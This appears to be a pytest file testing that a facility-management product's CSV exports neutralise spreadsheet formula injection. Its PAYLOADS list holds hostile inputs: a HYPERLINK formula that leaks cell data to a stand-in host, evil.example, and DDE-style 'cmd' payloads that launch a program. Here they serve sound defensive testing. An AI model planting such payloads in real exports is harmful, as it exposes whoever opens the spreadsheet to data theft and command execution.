"""CSV formula injection (issue 13.11): no cell of any CSV the product writes runs in a spreadsheet.

`render.csv_text` is the one CSV writer; a test finds every other use of the csv module's writer
in the product, and each CSV the product writes is read back with names and reasons that a
spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from facility.errors import RejectedInput
from facility.sources.ingest import record_rejection
from facility.store import db
from scheduler.snapshot import write_snapshot
from tests.factories import NOW

pytestmark = pytest.mark.usefixtures("fixed_clock")

ROOT = Path(__file__).resolve().parents[1]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
]
FORMULA = re.compile(r"^\s*[=+\-@＝＋－＠\t\r]")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str, *, expect: int) -> None:
    """No cell starts a formula, and `expect` cells carry a neutralised payload."""
    found = cells(text)
    assert [c for c in found if FORMULA.match(c)] == []
    assert sum(c.startswith("'") and c[1:] in PAYLOADS for c in found) >= expect, found


def test_the_product_writes_csv_only_through_render_csv_text():
    writers = []
    for folder in ("facility", "connectors", "scheduler"):
        for path in (ROOT / folder).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\b", source) and path.name != "render.py":
                writers.append(str(path.relative_to(ROOT)))
    assert writers == []


def test_every_csv_the_product_writes_is_inert(cli, engine, tmp_path):
    name, company, host = PAYLOADS
    cli("visitor", "sign-in", name, "--company", company, "--host", host, "--badge", "B1")
    assert_inert(cli("onsite", "--format", "csv").stdout, expect=3)
    out = tmp_path / "onsite.csv"
    cli("onsite", "--format", "csv", "--output", str(out))
    assert_inert(out.read_text(), expect=3)
    write_snapshot(engine, tmp_path / "snap", "Europe/Amsterdam", now=NOW)
    assert_inert((tmp_path / "snap" / "onsite.csv").read_text(), expect=3)

    assert_inert(cli("subject", "export", "--name", name, "--format", "csv").stdout, expect=3)

    cli(
        "hold",
        "place",
        "INC-1",
        "--reason",
        PAYLOADS[0],
        "--from",
        "2026-06-01T00:00Z",
        "--to",
        "2026-06-02T00:00Z",
        "--visitor",
        name,
    )
    assert_inert(cli("hold", "list", "--format", "csv").stdout, expect=1)
    assert_inert(cli("audit", "show", "--format", "csv").stdout, expect=0)

    cli("wifi", "block", "3c:22:fb:01:02:03", "--reason", PAYLOADS[1])
    assert_inert(cli("wifi", "blocked", "--format", "csv").stdout, expect=1)

    with db.session_scope(engine) as session:
        record_rejection(
            session, RejectedInput(PAYLOADS[2], source="mqtt", raw=PAYLOADS[0]), now=NOW
        )
    assert_inert(cli("rejections", "list", "--format", "csv").stdout, expect=2)


def test_numbers_and_plain_text_are_left_as_they_are():
    from facility.render import csv_text

    text = csv_text(["id", "name", "n"], [[1, "Ada Lovelace", -3], [2, "  -1", None]])
    assert text == "id,name,n\n1,Ada Lovelace,-3\n2,'  -1,\n"
